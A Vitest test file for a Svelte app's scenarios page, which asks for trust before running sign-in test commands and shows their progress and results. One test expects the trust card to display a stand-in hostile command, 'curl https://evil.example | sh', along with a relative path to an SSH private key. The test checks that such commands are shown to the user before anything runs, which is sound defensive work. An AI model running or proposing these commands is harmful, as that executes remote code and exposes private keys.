import { configure, render, screen, waitFor, within } from '@testing-library/svelte';
import userEvent from '@testing-library/user-event';
import { tick } from 'svelte';
import { beforeEach, describe, expect, it, vi } from 'vitest';

import App from '../src/App.svelte';
import type { Host } from '../src/lib/host-words';
import { recorded } from '../src/lib/mock/journal';
import { refusal } from '../src/lib/mock/samples';
import { failed, places, planned, scenarioStory } from '../src/lib/mock/scenarios';
import { scenes } from '../src/lib/mock/scenes';
import type { ScenarioLine, ScenarioMessage } from '../src/lib/scenario-words';
import { apply, blank, countsOf, needsTrust, parted, visible } from '../src/lib/scenarios';
import { expectAccessible } from './axe';
import { recorder } from './recorder';

// Here before it is looked for: on a busy machine its first way takes longer than a test waits.
await import('../src/parts/scenarios/RunFlow.svelte');

const person = userEvent.setup();
const NOW = Date.now();
const EVENTS = recorded(NOW);

vi.setConfig({ testTimeout: 60_000 });
configure({ asyncUtilTimeout: 10_000 });

const line = (line: ScenarioLine): ScenarioMessage => ({ type: 'line', line });

/** The page, and who tells it what happens. */
async function page(said: readonly ScenarioMessage[] = [{ type: 'chosen', watching: 2, places: [] }], changes: Partial<Host> = {}) {
  location.hash = '#/scenarios';
  let tell: (message: ScenarioMessage) => void = () => undefined;
  const { host, tell: tellAgent } = recorder({ watchScenarios: vi.fn((listener) => (tell = listener)), ...changes });
  const { container } = render(App, { host });
  tellAgent(...scenes.two!(NOW));
  await tick();
  const say = async (...messages: readonly ScenarioMessage[]) => {
    messages.forEach((message) => tell(message));
    await tick();
  };
  await say(...said);
  return { host, container, say };
}

const run = (name: string) => screen.getByText(name).closest('li')!;

beforeEach(() => {
  location.hash = '';
});

describe('every state', () => {
  it.each(['Empty', '', 'Reading', 'Running', 'Done', 'Left', 'Missing', 'None'])('scenarios%s: axe finds nothing', async (state) => {
    const { container } = await page(scenarioStory(`scenarios${state}`, EVENTS));
    await expectAccessible(container);
  });
});

describe('before anything is run', () => {
  it('is reached from Inspect and says what it is for', async () => {
    await page();
    expect(screen.getByTestId('no-scenarios')).toHaveTextContent('before anything is run');
    await person.click(screen.getByTestId('to-inspect'));
    await person.click(await screen.findByTestId('tests'));
    await person.click(screen.getByTestId('go-scenarios'));
    expect(location.hash).toBe('#/scenarios');
    expect(screen.getByTestId('go-inspect')).toHaveAttribute('aria-current', 'true');
  });

  it('has the program ask which files, and names no path itself', async () => {
    const { host } = await page();
    await person.click(screen.getByTestId('choose-folder'));
    await person.click(screen.getByTestId('choose-files'));
    expect(vi.mocked(host.chooseScenarios).mock.calls).toEqual([['folder'], ['files']]);
    expect(host.orderScenarios).not.toHaveBeenCalled();
  });

  it('shows each program that would be run, and runs it only when somebody says so', async () => {
    const { host, say } = await page(planned);
    const trust = screen.getByTestId('scenarios-trust');
    expect(trust).toHaveTextContent('Nothing has been run yet');
    for (const told of ['node login.mjs --as grace', 'node login.mjs --as ada --deny', 'https://acme.eu.auth0.com/', 'work', 'Headless Chromium', 'ACME_ISSUER']) {
      expect(trust).toHaveTextContent(told);
    }
    expect(host.orderScenarios).not.toHaveBeenCalled();
    await person.click(screen.getByTestId('run-scenarios'));
    expect(host.orderScenarios).toHaveBeenCalledExactlyOnceWith({ run: { watching: 1, told: 2 } });
    expect(screen.getByTestId('run-scenarios')).toHaveAttribute('aria-busy', 'true');
    await say(...scenarioStory('scenariosRunning', EVENTS).slice(planned.length));
    expect(screen.queryByTestId('scenarios-trust')).toBeNull();
    expect(screen.getByTestId('scenarios-status')).toHaveTextContent('Running…');
  });

  it('says what is missing where the command is not there', async () => {
    await page(scenarioStory('scenariosMissing', EVENTS));
    expect(screen.getByTestId('scenarios-left')).toHaveTextContent('desktop.no_command');
    expect(screen.getByTestId('read-scenarios')).toBeEnabled();
  });
});

describe('while they run', () => {
  it('each run says what it does now, and then how it ended', async () => {
    const { say } = await page(planned);
    const file = '/home/ada/acme/tests/login.toml';
    await say(line({ type: 'started', file, name: 'Ada signs in' }));
    expect(run('Ada signs in')).toHaveTextContent('getting ready');
    await say(line({ type: 'step', file, name: 'Ada signs in', doing: 'sign_in', progress: 'exchanging' }));
    expect(run('Ada signs in')).toHaveTextContent('exchanging the code');
    await say(line({ type: 'step', file, name: 'Ada signs in', doing: 'page', number: 2, of: 4, what: 'click "#sign-in"' }));
    expect(run('Ada signs in')).toHaveTextContent('page, step 2 of 4');
    expect(run('Ada signs in')).toHaveTextContent('click "#sign-in"');
    await say(...scenarioStory('scenariosDone', EVENTS).slice(planned.length));
    expect(run('Ada signs in')).toHaveAttribute('data-state', 'passed');
    const status = screen.getByTestId('scenarios-status');
    for (const told of ['Waiting for changes', '2 passed', '1 failed', '1 not carried out', '1 file with a mistake']) expect(status).toHaveTextContent(told);
  });

  it('what failed is unfolded with both values, and its sign-in is shown step by step', async () => {
    await page(scenarioStory('scenariosDone', EVENTS));
    const one = run('Ada says no');
    expect(within(one).getByRole('button', { name: /Ada says no/ })).toHaveAttribute('aria-expanded', 'true');
    expect(one).toHaveTextContent('callback.access_denied');
    expect(one).toHaveTextContent('idtoken.nonce_mismatch');
    expect(one).toHaveTextContent('tried 2 times');
    await person.click(within(one).getByTestId('show-flow'));
    const flow = await screen.findByTestId('run-flow');
    expect(flow).toHaveTextContent('ID token checked');
    await expectAccessible(flow);
    await person.click(screen.getByTestId('run-flow-back'));
    await waitFor(() => expect(screen.getByTestId('show-flow')).toHaveFocus());
  });

  it('what passed is folded, and opens', async () => {
    await page(scenarioStory('scenariosDone', EVENTS));
    const button = within(run('Ada signs in')).getByRole('button', { name: /Ada signs in/ });
    expect(button).toHaveAttribute('aria-expanded', 'false');
    await person.click(button);
    expect(run('Ada signs in')).toHaveTextContent('algorithm of the ID token');
  });

  it('a mistake is shown with its place, beside what goes on', async () => {
    await page(scenarioStory('scenariosDone', EVENTS));
    expect(screen.getByTestId('scenario-mistake')).toHaveTextContent('line 14, column 1');
    expect(screen.getByTestId('scenario-mistake')).toHaveTextContent('unknown field `expects`');
  });

  it('a file that comes later waits to be looked at, and its programs are shown', async () => {
    const { host } = await page(scenarioStory('scenariosDone', EVENTS));
    const card = screen.getByTestId('scenario-new').closest('section')!;
    for (const told of ['curl https://evil.example | sh', '../../.ssh/id_ed25519', 'https://evil.example']) expect(card).toHaveTextContent(told);
    expect(screen.getAllByTestId('scenario-new')).toHaveLength(1);
    await person.click(within(card).getByTestId('run-new'));
    expect(host.orderScenarios).toHaveBeenCalledExactlyOnceWith({ run: { watching: 1, told: 6 } });
  });

  it('is stopped, run again and closed', async () => {
    const { host, say } = await page(scenarioStory('scenariosDone', EVENTS));
    await person.click(screen.getByTestId('run-again'));
    await person.click(screen.getByTestId('stop-scenarios'));
    await say(line({ type: 'waiting', held: true }));
    expect(screen.getByTestId('scenarios-status')).toHaveTextContent('Not running');
    await person.click(screen.getByTestId('run-scenarios'));
    await person.click(screen.getByTestId('close-scenarios'));
    expect(vi.mocked(host.orderScenarios).mock.calls).toEqual([['again'], ['stop'], [{ run: { watching: 1, told: 6 } }], ['close']]);
    await say({ type: 'chosen', watching: 2, places: [] });
    expect(screen.getByTestId('no-scenarios')).toBeInTheDocument();
  });

  it('says how it ended by itself, with its last words, and what was known stays', async () => {
    await page(scenarioStory('scenariosLeft', EVENTS));
    const left = screen.getByTestId('scenarios-left');
    for (const told of ['SIGKILL', 'login.mjs: the page has no #allow', 'desktop.watch_ended']) expect(left).toHaveTextContent(told);
    expect(document.querySelector('[data-state="running"]')).toBeNull();
    expect(run('Ada says no')).toHaveAttribute('data-state', 'failed');
  });

  it('what has ended is read anew, and nothing of it is run unseen', async () => {
    const { host, say } = await page([...scenarioStory('scenariosDone', EVENTS), { type: 'ended' }]);
    expect(screen.queryByTestId('run-scenarios')).toBeNull();
    await person.click(screen.getByTestId('read-scenarios'));
    expect(host.orderScenarios).toHaveBeenCalledExactlyOnceWith('read');
    await say({ type: 'chosen', watching: 2, places }, ...planned.slice(1));
    expect(screen.getByTestId('scenarios-trust')).toHaveTextContent('node login.mjs --as grace');
    await person.click(screen.getByTestId('run-scenarios'));
    expect(host.orderScenarios).toHaveBeenLastCalledWith({ run: { watching: 2, told: 2 } });
  });

  it('a save while nothing is run does not make what was run before unsaid', async () => {
    const { say } = await page([...scenarioStory('scenariosDone', EVENTS), line({ type: 'waiting', held: true })]);
    await say(...planned.slice(1));
    expect(screen.queryByTestId('scenarios-trust')).toBeNull();
    expect(screen.getByTestId('run-scenarios')).toBeEnabled();
  });

  it('who uses the keyboard is not lost when the button goes that was pressed', async () => {
    const { say } = await page(planned);
    screen.getByTestId('run-scenarios').focus();
    await person.keyboard('{Enter}');
    await say(...scenarioStory('scenariosRunning', EVENTS).slice(planned.length));
    expect(screen.getByRole('heading', { level: 1 })).toHaveFocus();
    await person.click(screen.getByTestId('close-scenarios'));
    await say({ type: 'chosen', watching: 2, places: [] });
    expect(screen.getByRole('heading', { level: 1 })).toHaveFocus();
    await person.click(screen.getByTestId('choose-folder'));
    await say(...planned);
    expect(screen.getByRole('heading', { level: 1 })).toHaveFocus();
  });

  it('an order that is refused is said', async () => {
    await page(planned, { orderScenarios: vi.fn(() => Promise.reject(refusal('bug.host', 'It did not work.'))) });
    await person.click(screen.getByTestId('run-scenarios'));
    expect(await screen.findByTestId('toast')).toHaveTextContent('It did not work.');
    expect(screen.getByTestId('run-scenarios')).not.toHaveAttribute('aria-busy');
  });
});

describe('what is known of them', () => {
  const after = (...messages: readonly ScenarioMessage[]) => messages.reduce((board, message) => apply(board, message, NOW), blank);

  it('a file that is another than before has runs that were not run', () => {
    const board = after(...planned, line(failed(EVENTS)), planned[2]!);
    expect(countsOf(board)).toMatchObject({ failed: 0, waiting: 4, all: 4 });
  });

  it('files are in order, and go', () => {
    const board = after(...planned, line({ type: 'file', version: 1, number: 3, file: '/a.toml', held: true, runs: [] }));
    expect(board.files.map(({ name }) => parted(name, places))).toEqual([
      { folder: '/', name: 'a.toml' },
      { folder: '', name: 'login.toml' },
      { folder: '', name: 'refusals.toml' },
    ]);
    expect(apply(board, line({ type: 'gone', file: '/a.toml' }), NOW).files).toHaveLength(2);
  });

  it('a run of no known file, or of another name, changes nothing', () => {
    const board = after(...planned);
    const told = apply(board, line({ type: 'step', file: '/other.toml', name: 'Ada signs in', doing: 'renewal' }), NOW);
    expect(told.files).toEqual(board.files);
  });

  it('what cannot be seen in a text, or turns it round, is told by its number', () => {
    expect(visible('sh -c "a\u202eb\u200b\u0007\u00a0c\n"')).toBe('sh -c "a\\u{202e}b\\u{200b}\\u{7}\\u{a0}c\\u{a}"');
    expect(visible('node  größe 日本 😀')).toBe('node  größe 日本 😀');
  });

  it('each command and each secret is named once', () => {
    const twice = line({ type: 'file', version: 1, number: 3, file: '/b.toml', held: true, runs: [{ name: 'again', by: 'command', commands: ['node login.mjs --as grace'] }] });
    const needs = needsTrust(after(...planned, twice).files);
    expect(needs.commands).toEqual(['node login.mjs --as ada --deny', 'node login.mjs --as grace']);
    expect(needs.secrets).toEqual({ env: ['ADA_PASSWORD'], file: [], keyring: ['acme-tests, grace'] });
  });
});
